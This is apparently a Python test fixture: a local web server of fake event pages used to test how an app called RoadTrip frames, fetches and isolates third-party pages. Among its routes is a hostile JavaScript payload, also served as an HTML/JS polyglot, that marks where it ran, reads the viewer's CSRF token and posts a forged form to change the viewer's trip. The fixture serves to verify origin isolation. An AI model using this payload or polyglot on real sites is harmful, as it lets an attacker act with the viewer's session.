"""A small web site of event pages on 127.0.0.1 (there is no network here): another origin
than RoadTrip's, as real event pages are. It serves

- `/event/N`: "Event N"; event 1 has a link to `/event/1/more` (a page inside the event's site,
  for "Back to Events") and one to `/event/3`, which links on to `/event/4` (a chain, for one
  step back per press);
- `/refresh`: a page that replaces itself with `/refresh/landed` by a meta refresh (no link followed);
- `/weather` with a link to `/weather/tomorrow`;
- `/hang`: while `hanging` is set, an answer that never comes (the 15 s time-out); after, a page;
- `/deny`: a page sent with `X-Frame-Options: DENY` (browsers refuse to frame it);
- `/deny/late`: the same, but while a test holds copies (`hold_copies()`), RoadTrip's own
  fetch of it (not a browser's) waits until `release_copies()`, so the test sees the book
  before its copy exists;
- `/gone/late`: a site that answers nothing (the connection closed without a reply): at once
  to a browser (its error page), and to RoadTrip's own fetch only once a test holding copies
  releases them, so the test sees the book's first look while the copy is still being fetched;
- `/hostile/script`: a script sent as `text/javascript` (`hostile_script`): wherever it runs it sets
  the marker `pwned` (on its window, its top window and RoadTrip's localStorage), asks `/ran/<where it ran>` here
  and changes the viewer's trip to `choose_path` with a form token from `/session/form-token`
  (all before it ends: synchronous requests);
- `/hostile/polyglot`: an HTML page (`text/html`) that is the same script too, read as JavaScript.

It counts the requests per path, and a browser's apart, so a test can tell what the browser loaded.
"""

from __future__ import annotations

import html
import threading
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def page(title: str, body: str = "") -> bytes:
    return (
        "<!doctype html><html lang=en><head><meta charset=utf-8>"
        f"<title>{html.escape(title)}</title></head>"
        f"<body><h1>{html.escape(title)}</h1>{body}</body></html>"
    ).encode()


def hostile_script(site_url: str, choose_path: str) -> str:
    """What a hostile event page does if RoadTrip lets it run at its origin, all of it before it
    ends (synchronous requests), so that nothing is left to happen after its load: the markers,
    then the trip changed with the viewer's own form token."""
    return (
        "(function () { var where = String(location.pathname); window.pwned = where;"
        " try { window.top.pwned = where; } catch (e) {}"
        " try { localStorage.setItem('pwned', where); } catch (e) {}"
        f" try {{ new Image().src = '{site_url}/ran' + where; }} catch (e) {{}}"
        " try { var token = new XMLHttpRequest(); token.open('GET', '/session/form-token', false); token.send();"
        f"   var choose = new XMLHttpRequest(); choose.open('POST', '{choose_path}', false);"
        "   choose.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');"
        "   choose.send('csrf=' + encodeURIComponent(JSON.parse(token.responseText).csrf)); } catch (e) {} })();"
    )


def polyglot(script: str) -> bytes:
    """An HTML page that is also that script: to JavaScript `<!--` starts a comment to the end
    of the line (and the `//` ends the second), to HTML the first line's comment ends at `-->`."""
    return (
        "<!-- --><!doctype html><html><head><meta charset=utf-8><title>Polyglot</title></head><body><h1>Polyglot</h1>"
        f"<script>{script}</script><p>\n{script} // </p></body></html>"
    ).encode()


class EventSite:
    def __init__(self) -> None:
        self.requests: Counter[str] = Counter()
        # Those a browser made (its User-Agent names Mozilla; RoadTrip's fetcher's does not).
        self.browser_requests: Counter[str] = Counter()
        self.hanging = True
        # Where the hostile pages try to move the viewer's trip (a test sets it).
        self.choose_path = "/destinations/1/choose"
        self._release = threading.Event()
        self._copies = threading.Event()
        self._copies.set()  # the site is shared by the session's tests: nothing held unless asked
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *arguments) -> None:  # quiet
                pass

            def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
                path = self.path.split("?", 1)[0]
                site.requests[path] += 1
                if "Mozilla" in self.headers.get("User-Agent", ""):
                    site.browser_requests[path] += 1
                headers = {}
                content_type = "text/html; charset=utf-8"
                if path == "/event/1":
                    body = page("Event 1", '<p>The first event.</p><p><a id="more" href="/event/1/more">More about event 1</a></p>'
                                '<p><a id="next" href="/event/3">On to event 3</a></p>')
                elif path == "/event/3":
                    body = page("Event 3", '<p><a id="next" href="/event/4">On to event 4</a></p>')
                elif path == "/event/1/more":
                    body = page("More about event 1", "<p>Inside the event's own site.</p>")
                elif path.startswith("/event/"):
                    body = page(f"Event {path.rsplit('/', 1)[1]}")
                elif path == "/weather":
                    body = page("Weather in Test Town", '<p><a id="tomorrow" href="/weather/tomorrow">Tomorrow</a></p>')
                elif path == "/weather/tomorrow":
                    body = page("Tomorrow in Test Town")
                elif path == "/hang":
                    if site.hanging:
                        site._release.wait(30)  # the browser gives up first (or the test ends)
                        return
                    body = page("Finally here")
                elif path == "/refresh":
                    body = page("Moving on").replace(b"<head>", b'<head><meta http-equiv="refresh" content="0; url=/refresh/landed">')
                elif path == "/refresh/landed":
                    body = page("Landed by itself")
                elif path == "/gone/late":
                    if "Mozilla" not in self.headers.get("User-Agent", ""):
                        site._copies.wait(30)
                    self.close_connection = True  # no status line, no headers: nothing answered
                    return
                elif path == "/deny/late":
                    if "Mozilla" not in self.headers.get("User-Agent", ""):
                        site._copies.wait(30)
                    body = page("Not in a frame, at last")
                    headers["X-Frame-Options"] = "DENY"
                elif path.startswith("/hostile/"):
                    script = hostile_script(site.url, site.choose_path)
                    if path == "/hostile/script":
                        body, content_type = script.encode(), "text/javascript"
                    elif path == "/hostile/polyglot":
                        body = polyglot(script)
                    else:
                        self.send_error(404)
                        return
                elif path.startswith("/ran/"):
                    body = b""
                elif path == "/deny":
                    body = page("Not in a frame", '<p><a id="elsewhere" href="/event/2">On to event 2</a></p>')
                    headers["X-Frame-Options"] = "DENY"
                else:
                    self.send_error(404)
                    return
                self.send_response(200)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                for name, value in headers.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __call__(self, path: str) -> str:
        return self.url + path

    def start(self) -> "EventSite":
        self.thread.start()
        return self

    def hold_copies(self) -> None:
        self._copies.clear()

    def release_copies(self) -> None:
        self._copies.set()

    def stop(self) -> None:
        self._release.set()
        self._copies.set()
        self.server.shutdown()
        self.server.server_close()
